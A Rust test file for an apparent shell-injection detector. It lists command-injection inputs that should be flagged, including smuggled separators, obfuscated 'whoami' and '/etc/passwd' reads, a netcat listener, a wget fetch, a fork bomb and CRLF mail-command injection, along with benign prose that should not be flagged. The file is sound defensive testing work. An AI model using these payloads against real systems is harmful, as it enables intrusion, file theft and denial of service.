use super::*;

#[track_caller]
fn check(text: &str, expect: Option<ShellShape>) {
    let found = shapes(text);
    match expect {
        Some(shape) => {
            assert!(may_have_shape(text, Present::of(text)), "{text:?} passes the gate");
            assert!(found.iter().any(|(known, _)| *known == shape), "{text:?} lacks {shape:?}: {found:?}");
        }
        None => assert!(found.is_empty(), "{text:?} is nothing, yet {found:?}"),
    }
}

#[test]
fn command_lines_have_a_shape() {
    use ShellShape::{Batch, Indirect, Line, Mail, Pattern, Separated};
    for (text, shape) in [
        (";id", Separated),
        ("x|ls -la", Separated),
        ("127.0.0.1 && whoami", Separated),
        ("$(uname -a)", Separated),
        ("a;w'h'oam\\i", Separated),
        ("a;c$@at /x", Separated),
        ("|getent hosts db.example", Separated),
        ("a\nwget http://x.example/a", Separated),
        ("x; X=1 nc -lvp 4444", Separated),
        ("x=`sleep 9`", Separated),
        ("nohup ifconfig", Line),
        ("tac /srv/data.txt", Line),
        ("for %x in (*) do del %x", Batch),
        ("if not exist c:\\a.txt echo no", Batch),
        ("if \"%a%\"==\"b\" goto x", Batch),
        ("if 1 equ 1 echo x", Batch),
        ("/b?n/c[a]t x", Pattern),
        ("/e*c/p?sswd", Pattern),
        ("{head,/srv/x}", Pattern),
        ("w{ge,ho}t", Pattern),
        ("n=nc; $n -lp 1", Indirect),
        ("bomb(){ bomb|bomb& };bomb", Indirect),
        ("a\r\nRCPT TO:<x@example.org>", Mail),
        ("a\r\nt1 LOGIN x y", Mail),
    ] {
        check(text, Some(shape));
    }
}

#[test]
fn prose_and_code_have_none() {
    for text in [
        "salt & pepper; find your taste",
        "first; then more words follow",
        "this | that; who knows what it is",
        "wash; rinse; sort the laundry by colour",
        "Tom & sort of Jerry",
        "run `ls -l` to see the files of the directory",
        "find the right size",
        "more about us",
        "cat and dog",
        "ping me later",
        "if it exists we use it",
        "for the record (and more)",
        "if a == b {",
        "a[0] / b[1]",
        "{id,name}",
        "/images/*.png",
        "Dear all,\nlast week was fine\nsee you",
        "page=2&id=5&sort=date",
        "Tea &amp; \"more\"",
        "less &lt; more &#38; most",
    ] {
        check(text, None);
    }
}
